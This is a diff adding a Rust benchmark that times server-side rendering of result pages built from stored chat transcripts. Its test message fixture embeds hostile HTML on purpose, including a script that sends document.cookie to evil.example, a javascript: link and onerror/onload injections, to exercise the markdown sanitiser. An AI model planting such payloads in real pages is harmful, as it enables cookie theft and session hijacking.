@@ -1,0 +1,256 @@
+//! The pages for people (`src/web/`): server-side render time of a skill's result
+//! page once the call has returned (issue 31: ≤ 5 ms p95 for a 15-row result).
+//!
+//! A store of long, hostile, markdown-heavy messages is written (15 of them match the
+//! search term, each ~3,500 characters: headings, lists, a table, fenced code, links,
+//! a `javascript:` link, raw `<script>`, `<img onerror>`, multibyte text), the bundled
+//! skills are loaded over it, and each case's call runs once through `Host::call`.
+//! Then [`skills::web::skill::result`] — the function `GET /skills/{name}` answers
+//! with after the call (result table, citation links, the template's markdown through
+//! pulldown-cmark and ammonia, the page template) — renders that same output again and
+//! again; the store is not read while timing.
+//!
+//! Cases: `get-conversation` with 15 messages of up to 4,000 characters each (the
+//! largest 15-row result a bundled skill returns) and `search-conversations` with 15
+//! rows (200-character previews, its default limit).
+//!
+//! Printed per case: wall-clock p50 and p95, and the rendering thread's CPU time (what
+//! the render itself costs, without the time another process held the core).
+//!
+//! Environment: `BENCH_RUNS` (timed renders per case, default 500); `BENCH_STAGES=1`
+//! also prints the time of the markdown step and of pulldown-cmark and ammonia alone
+//! (on stderr).
+#![allow(clippy::print_stdout, clippy::unwrap_used)]
+
+mod common;
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use anyhow::{ensure, Context as _, Result};
+use chrono::TimeZone;
+use common::{fmt_dur, Stats};
+use skills::ingest::Message;
+use skills::runtime::catalog::Catalog;
+use skills::runtime::Host;
+use skills::stores::conversations::ConversationStore;
+use skills::stores::StorePaths;
+use skills::web::Pages;
+
+/// Rows in each result.
+const ROWS: usize = 15;
+
+/// The term every benchmark message holds.
+const TERM: &str = "renderbench";
+
+/// Message `i` of the benchmark conversation: ~3,500 characters of what transcripts
+/// hold — markdown of every kind, raw HTML a browser would run, multibyte text.
+fn content(i: usize) -> String {
+    let mut text = format!(
+        "## Step {i}: {TERM} the login flow\n\n\
+         We looked at **the session cookie** and `SameSite=Lax` again; see \
+         [the RFC](https://www.rfc-editor.org/rfc/rfc6265) and \
+         [this](javascript:alert(document.cookie)). Straße, 東京, Σοφία, café 🚀.\n\n\
+         <script>fetch('https://evil.example/?c='+document.cookie)</script>\n\
+         <img src=x onerror=alert({i})> and \"><svg onload=alert(1)>\n\n\
+         1. read `src/auth/session.rs`\n2. move the check before the redirect\n\
+         3. keep the `|` pipes | in | cells\n\n\
+         | file | lines | why |\n|---|---|---|\n\
+         | `session.rs` | 120 | cookie |\n| `login.rs` | 48 | redirect |\n\
+         | `guard.rs` | 95 | <b>origin</b> |\n\n\
+         ```rust\n"
+    );
+    for line in 0..24 {
+        text.push_str(&format!(
+            "    let value_{line} = request.headers().get(\"x-{line}\").map(|v| v.len()).unwrap_or({i});\n"
+        ));
+    }
+    text.push_str("```\n\n");
+    for para in 0..6 {
+        text.push_str(&format!(
+            "> Paragraph {para}: the reviewer asked whether <em>escaping</em> happens before \
+             or after the markdown pass, and whether a `<details>` block or an \
+             `onerror=` attribute could slip through the sanitiser; the answer is in \
+             the test named `raw_html_shows_as_text` (message {i}).\n\n"
+        ));
+    }
+    text
+}
+
+/// A data folder holding one conversation of [`ROWS`] benchmark messages plus others
+/// that do not match.
+fn store(dir: &std::path::Path) -> Result<()> {
+    let store = ConversationStore::open_rw(&StorePaths::in_dir(dir).conversations)?;
+    let mut messages = Vec::new();
+    for (conversation, count, matching) in [("bench-conv", ROWS, true), ("other-conv", 40, false)] {
+        for i in 0..count {
+            let body = if matching {
+                content(i)
+            } else {
+                format!("an unrelated message {i}")
+            };
+            messages.push(Message {
+                source: "claude-code".into(),
+                model: Some("claude-opus".into()),
+                project: Some("/home/user/app".into()),
+                conversation_id: conversation.into(),
+                conversation_title: Some("Login flow <b>review</b>".into()),
+                message_id: format!("{conversation}-msg-{i:03}"),
+                parent_id: None,
+                msg_index: i64::try_from(i)?,
+                timestamp: chrono::Utc
+                    .with_ymd_and_hms(2026, 3, 10, 10, u32::try_from(i)?, 0)
+                    .single()
+                    .context("a valid time")?,
+                timestamp_is_fallback: false,
+                role: if i % 2 == 0 { "user" } else { "assistant" }.into(),
+                content_type: "text".into(),
+                content: body,
+                has_attachment: false,
+                has_citation: false,
+                is_injected: false,
+            });
+        }
+    }
+    store.insert(&messages)?;
+    Ok(())
+}
+
+fn main() -> Result<()> {
+    if std::env::args().any(|a| a == "--list") {
+        return Ok(());
+    }
+    let runs = common::env_usize("BENCH_RUNS", 500);
+    let data = tempfile::tempdir()?;
+    store(data.path())?;
+    let skills_dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("skills");
+    let host = Host::load(
+        &skills_dir,
+        skills::engines::Context::new(StorePaths::in_dir(data.path())),
+    );
+    let catalog = Arc::new(Catalog::fixed(Arc::new(host)));
+    let pages = Pages::new(Arc::clone(&catalog))?;
+    let served = catalog.current();
+
+    let cases = [
+        (
+            "get-conversation",
+            vec![
+                ("conversation_id", "bench-conv"),
+                ("limit", "15"),
+                ("max_chars", "4000"),
+            ],
+        ),
+        (
+            "search-conversations",
+            vec![("term", TERM), ("limit", "15")],
+        ),
+    ];
+    let mut rows = Vec::new();
+    for (name, pairs) in cases {
+        let skill = served
+            .host
+            .get(name)
+            .with_context(|| format!("no skill `{name}` in {}", skills_dir.display()))?;
+        let pairs: Vec<(String, String)> = pairs
+            .iter()
+            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+            .collect();
+        let args = skills::web::form::arguments(&skill.meta.input_schema, &pairs);
+        let output = served.host.call(name, args)?;
+        let count = output.data["rows"].as_array().map_or(0, Vec::len);
+        ensure!(count == ROWS, "`{name}` returned {count} rows, not {ROWS}");
+        let text_chars = output.text.chars().count();
+        let page = skills::web::skill::result(&pages, skill, &pairs, &output);
+        ensure!(page.status() == 200, "`{name}`: status {}", page.status());
+        let (mut wall, mut cpu) = (Vec::with_capacity(runs), Vec::with_capacity(runs));
+        for _ in 0..runs.max(1) {
+            let (t, c) = (Instant::now(), thread_cpu());
+            let page = skills::web::skill::result(&pages, skill, &pairs, &output);
+            cpu.push(thread_cpu().saturating_sub(c));
+            wall.push(t.elapsed());
+            drop(page);
+        }
+        let (stats, cpu) = (Stats::of(wall), Stats::of(cpu));
+        let bytes = body_len(page)?;
+        if std::env::var_os("BENCH_STAGES").is_some() {
+            let (md, _) = measure(runs, || {
+                skills::web::html::markdown(&output.text, &mut skills::web::html::Linker::default())
+            });
+            let mut raw = String::new();
+            let (cm, _) = measure(runs, || {
+                raw.clear();
+                pulldown_cmark::html::push_html(
+                    &mut raw,
+                    pulldown_cmark::Parser::new_ext(
+                        &output.text,
+                        pulldown_cmark::Options::ENABLE_TABLES,
+                    ),
+                );
+            });
+            let (am, _) = measure(runs, || skills::web::html::sanitize(&raw));
+            eprintln!(
+                "{name}: markdown() p50 {} · pulldown-cmark alone {} · ammonia alone {}",
+                fmt_dur(md.median),
+                fmt_dur(cm.median),
+                fmt_dur(am.median)
+            );
+        }
+        rows.push(vec![
+            format!("`{name}` ({ROWS} rows, rendered markdown {text_chars} chars)"),
+            stats.runs.to_string(),
+            fmt_dur(stats.median),
+            fmt_dur(stats.p95),
+            format!("{} / {}", fmt_dur(cpu.median), fmt_dur(cpu.p95)),
+            format!("{:.0} KB", bytes as f64 / 1e3),
+        ]);
+    }
+    println!("## Result page render (`skills::web::skill::result`), result already computed\n");
+    println!("machine: {}\n", common::machine());
+    common::table(
+        &[
+            "result page",
+            "renders",
+            "p50",
+            "p95",
+            "CPU p50 / p95",
+            "page size",
+        ],
+        &rows,
+    );
+    println!(
+        "p50 and p95 are wall-clock times; CPU is the rendering thread's own time \
+         (`CLOCK_THREAD_CPUTIME_ID`), which leaves out time the thread waited for a core.\n"
+    );
+    Ok(())
+}
+
+/// This thread's CPU time so far.
+fn thread_cpu() -> Duration {
+    let mut now = libc::timespec {
+        tv_sec: 0,
+        tv_nsec: 0,
+    };
+    // SAFETY: `clock_gettime` writes one `timespec` through the valid pointer given.
+    let ok = unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &raw mut now) } == 0;
+    if !ok {
+        return Duration::ZERO;
+    }
+    Duration::new(
+        u64::try_from(now.tv_sec).unwrap_or(0),
+        u32::try_from(now.tv_nsec).unwrap_or(0),
+    )
+}
+
+/// [`common::measure`] with no time budget: every run is timed.
+fn measure<T>(runs: usize, f: impl FnMut() -> T) -> (Stats, T) {
+    common::measure(runs, Duration::MAX, f)
+}
+
+/// The bytes of a page's body (the page is built in full before it is returned).
+fn body_len(page: skills::web::Response) -> Result<usize> {
+    use http_body_util::BodyExt;
+    let runtime = tokio::runtime::Builder::new_current_thread().build()?;
+    let body = runtime.block_on(page.into_body().collect())?;
+    Ok(body.to_bytes().len())
+}
